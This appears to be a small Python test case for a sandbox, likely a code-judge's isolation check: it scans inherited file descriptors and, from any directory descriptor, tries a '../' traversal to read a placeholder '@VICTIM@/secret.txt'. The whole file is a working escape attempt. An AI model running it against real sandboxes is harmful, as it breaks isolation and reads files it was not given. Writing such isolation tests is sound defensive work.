# stdin: looks for an inherited descriptor of a folder or a file and walks out of the sandbox from there
import os
import stat
import sys

for number in range(3, 4096):
    try:
        mode = os.fstat(number).st_mode
    except OSError:
        continue
    print("LEAK", number, oct(mode), file=sys.stderr)
    if stat.S_ISDIR(mode):
        try:
            file = os.open("../../../../../.." + "@VICTIM@/secret.txt", os.O_RDONLY, dir_fd=number)
            print(os.read(file, 100), file=sys.stderr)
        except OSError:
            pass
print(0)
